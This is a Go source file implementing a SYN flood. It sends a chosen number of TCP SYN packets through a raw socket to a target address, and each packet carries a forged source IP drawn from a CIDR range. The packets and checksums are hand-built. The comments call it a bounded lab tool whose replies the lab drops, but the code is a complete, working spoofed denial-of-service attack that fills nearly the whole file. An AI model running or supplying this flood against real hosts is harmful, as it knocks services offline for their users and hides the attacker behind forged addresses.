package main

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"strconv"
	"syscall"
)

// synFlood sends count TCP SYNs to dst (IPv4 ADDR:PORT), each from the
// next address of the range src (a CIDR: 198.18.0.0/15 holds 131072),
// through a raw socket, as fast as the socket takes them: a bounded flood
// of forged clients. Where their answers go is the caller's to arrange
// (the lab drops everything that would leave the machine).
func synFlood(dst, count, src string) error {
	to, err := netip.ParseAddrPort(dst)
	if err != nil || !to.Addr().Is4() {
		return fmt.Errorf("destination %q: want IPv4 ADDR:PORT", dst)
	}
	n, err := strconv.Atoi(count)
	if err != nil || n < 1 {
		return fmt.Errorf("count %q: want a positive number", count)
	}
	from, err := netip.ParsePrefix(src)
	if err != nil || !from.Addr().Is4() || n > 1<<(32-from.Bits()) {
		return fmt.Errorf("source range %q: want an IPv4 CIDR with at least %d addresses", src, n)
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer syscall.Close(fd)
	sa := &syscall.SockaddrInet4{Addr: to.Addr().As4()}
	base := binary.BigEndian.Uint32(from.Masked().Addr().AsSlice())
	pkt := make([]byte, 40)
	for i := range n {
		var s [4]byte
		binary.BigEndian.PutUint32(s[:], base+uint32(i))
		synPacket(pkt, s, to.Addr().As4(), uint16(10000+i%50000), to.Port(), uint32(i))
		if err := syscall.Sendto(fd, pkt, 0, sa); err != nil {
			return fmt.Errorf("SYN %d of %d: %w", i+1, n, err)
		}
	}
	fmt.Printf("sent %d SYNs to %s from %s\n", n, dst, src)
	return nil
}

// synPacket writes an IPv4 header and a TCP SYN into pkt (40 bytes).
func synPacket(pkt []byte, src, dst [4]byte, sport, dport uint16, seq uint32) {
	clear(pkt)
	pkt[0], pkt[8], pkt[9] = 0x45, 64, syscall.IPPROTO_TCP
	binary.BigEndian.PutUint16(pkt[2:], 40)
	copy(pkt[12:16], src[:])
	copy(pkt[16:20], dst[:])
	binary.BigEndian.PutUint16(pkt[10:], checksum(pkt[:20]))
	tcp := pkt[20:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12], tcp[13] = 5<<4, 0x02 // data offset 5 words; SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	pseudo := append(append(append([]byte{}, src[:]...), dst[:]...), 0, syscall.IPPROTO_TCP, 0, 20)
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
}
